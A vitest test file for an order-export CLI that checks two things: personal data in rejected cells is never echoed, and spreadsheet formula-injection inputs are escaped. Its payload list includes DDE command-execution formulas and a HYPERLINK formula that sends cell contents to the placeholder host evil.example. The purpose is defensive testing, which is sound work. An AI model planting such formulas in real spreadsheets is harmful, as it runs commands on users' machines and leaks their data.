// Issue 15's hostile corpus, generated here (nothing committed): personal data shifted into the
// columns that echo rejected values, and spreadsheet-injection payloads in every text-valued
// column. Each case runs the whole CLI in this process. The counts are the README's reliability
// figures ("Reliability"): a change that drops a case changes a count and fails here.
import fs from 'node:fs';
import path from 'node:path';
import iconv from 'iconv-lite';
import { describe, expect, it } from 'vitest';
import { tmpDir } from '../helpers.js';
import { cells, exampleLines, quoteField, rawCells } from './hostile.js';
import { cli } from './inproc.js';

/** The example export with its first data row's cells changed (by header index). */
function exportWith(change: Record<number, string>): string {
  const [head, first, ...rest] = exampleLines();
  const c = rawCells(first!);
  for (const [k, v] of Object.entries(change)) c[Number(k)] = quoteField(v);
  return [head!, c.join(','), ...rest].join('\n') + '\n';
}

// Personal data as a shifted row puts it in a column that is checked and echoed when wrong.
const PII: Record<string, { raw: string; secret: string }> = {
  mobile: { raw: '13925130165', secret: '13925130165' },
  'mobile +86 dashed': { raw: '+86 139-2513-0165', secret: '2513' },
  'id card': { raw: '11010519491231002X', secret: '11010519491231002X' },
  address: { raw: '广东省 深圳市 南山区 科技园南路88号(518057)', secret: '科技园南路' },
  'address no spaces': { raw: '浙江省杭州市西湖区文三路100号', secret: '文三路' },
  landline: { raw: '0755-86001234', secret: '86001234' },
};
// 订单状态, 订单创建时间, 订单付款时间, 确认收货时间, 发货时间: values here are checked, and echoed when rejected.
const ECHOING_COLUMNS: Record<string, number> = { status: 12, createdAt: 19, paidAt: 20, confirmedAt: 50, shippedAt: 68 };

describe('privacy corpus: personal data in echoing columns', () => {
  it('never echoed raw on stderr, in --rejects or in inspect firstReasons (6 kinds × 5 columns)', async () => {
    const dir = tmpDir('storeops-pii-corpus-');
    let tried = 0;
    let rejectedAsDocumented = 0;
    for (const [kind, { raw, secret }] of Object.entries(PII)) {
      for (const [col, idx] of Object.entries(ECHOING_COLUMNS)) {
        const f = path.join(dir, `${kind}-${col}.csv`.replace(/\s+/g, '_'));
        fs.writeFileSync(f, exportWith({ [idx]: raw }));
        const rej = `${f}.rejects.csv`;
        const out = `${f}.out.csv`;
        const n = await cli(['orders', 'normalize', f, '-o', out, '--rejects', rej]);
        const inspect = await cli(['orders', 'inspect', f, '-f', 'json', '-q']);
        const reasons = JSON.stringify((JSON.parse(inspect.stdout) as Array<{ firstReasons: string[] }>)[0]!.firstReasons);
        tried++;
        for (const text of [n.stderr, fs.readFileSync(rej, 'utf8'), reasons]) expect(text, `${kind} in ${col}`).not.toContain(secret);
        // The row is rejected (exit 1, "needs attention"), the other 8 are written: nothing lost.
        expect(n.code, `${kind} in ${col}`).toBe(1);
        expect(n.stderr, `${kind} in ${col}`).toContain('9 rows read: 8 accepted, 1 rejected');
        rejectedAsDocumented++;
      }
    }
    expect([tried, rejectedAsDocumented]).toEqual([30, 30]);
  }, 300_000);

  it('a file without a header row: never its first row (4 layouts of personal first rows)', async () => {
    const dir = tmpDir('storeops-pii-corpus-');
    const rows = [
      `王小明,13925130165,广东省 深圳市 南山区 科技园南路88号,请尽快发货`,
      `="3515313147329357901",李四,+86 139-2513-0165,11010519491231002X`,
      `张三\t13800138000\t北京市朝阳区建国路1号\t无`,
      `"赵六","0755-86001234","上海市浦东新区张江路500弄3号601室"`,
    ];
    const secrets = ['王小明', '李四', '张三', '赵六', '13925130165', '2513', '13800138000', '86001234', '科技园南路', '建国路', '张江路', '11010519491231002X'];
    for (const [i, row] of rows.entries()) {
      const f = path.join(dir, `noheader-${i}.csv`);
      fs.writeFileSync(f, `${row}\n${row}\n`);
      for (const cmd of [['orders', 'normalize', f], ['orders', 'inspect', f], ['compensate', f]]) {
        const r = await cli(cmd);
        expect(r.code, cmd.join(' ')).toBe(3);
        for (const s of secrets) expect(r.stderr, `${cmd.join(' ')} ${i}`).not.toContain(s);
      }
    }
  }, 120_000);
});

// Formula injection: what a spreadsheet runs when a cell starts with = + - @ (or their full-width
// forms, or a tab/CR before them).
const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1+1',
  '＠SUM(1)',
];
// Text-valued columns of the Tmall export that orders normalize writes: buyer (1), receiver (14),
// title (21), trackingNo (23), carrier (24), sellerNote (25), closeReason (29), parentOrderId (70).
const TEXT_COLUMNS = [1, 14, 21, 23, 24, 25, 29, 70];
const OUTPUT_KEYS = ['buyer', 'receiver', 'title', 'trackingNo', 'carrier', 'sellerNote', 'closeReason', 'parentOrderId'];
const FORMATS: Array<{ name: string; args: string[]; ext: string; decode: (b: Buffer) => string; split: (line: string) => string[] }> = [
  { name: 'csv utf8', args: [], ext: 'csv', decode: (b) => b.toString('utf8'), split: (l) => cells(l) },
  { name: 'csv gbk', args: ['--out-encoding', 'gbk'], ext: 'csv', decode: (b) => iconv.decode(b, 'gb18030'), split: (l) => cells(l) },
  { name: 'tsv', args: [], ext: 'tsv', decode: (b) => b.toString('utf8'), split: (l) => cells(l, '\t') },
];

/** A cell a spreadsheet would run: starts with a formula character and is not escaped. */
function runnable(v: string): boolean {
  if (/^-?\d+(\.\d+)?$/.test(v)) return false; // a number storeops wrote
  if (/^="\d+"$/.test(v) || /^=\d+$/.test(v)) return false; // an id written ="digits" (read back unquoted or not)
  return /^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20\t\r]/.test(v);
}

describe('spreadsheet-injection corpus: every text-valued output column, ids included', () => {
  it('no written cell is runnable (10 payloads × 8 columns × 3 formats)', async () => {
    const dir = tmpDir('storeops-inject-corpus-');
    let cellsTried = 0;
    let cellsEscaped = 0;
    for (const [p, payload] of PAYLOADS.entries()) {
      const f = path.join(dir, `payload-${p}.csv`);
      fs.writeFileSync(f, exportWith(Object.fromEntries(TEXT_COLUMNS.map((c) => [c, payload]))));
      for (const fmt of FORMATS) {
        const out = path.join(dir, `payload-${p}-${fmt.name.replace(' ', '-')}.${fmt.ext}`);
        const r = await cli(['orders', 'normalize', f, '-o', out, ...fmt.args]);
        expect(r.code, `${payload} ${fmt.name}: ${r.stderr}`).toBe(0);
        const text = fmt.decode(fs.readFileSync(out)).replace(/^\uFEFF/, '');
        // Split records as a csv reader would (a payload may hold a CR inside a quoted cell).
        const nl = text.indexOf('\n');
        const head = fmt.split(text.slice(0, nl));
        // The first data record ends where the second (another taobao row) begins.
        const body = text.slice(nl + 1);
        const row = fmt.split(body.slice(0, body.indexOf('\ntaobao')));
        expect(row.length, fmt.name).toBe(head.length);
        for (const v of row) expect(runnable(v), `${fmt.name}: ${JSON.stringify(v)}`).toBe(false);
        for (const key of OUTPUT_KEYS) {
          cellsTried++;
          expect(head, fmt.name).toContain(key);
          const v = row[head.indexOf(key)]!;
          expect(v.startsWith("'"), `${fmt.name} ${key}: ${JSON.stringify(v)}`).toBe(true);
          cellsEscaped++;
        }
      }
    }
    expect(cellsTried).toBe(240);
    expect(cellsEscaped).toBe(240);
  }, 300_000);
});
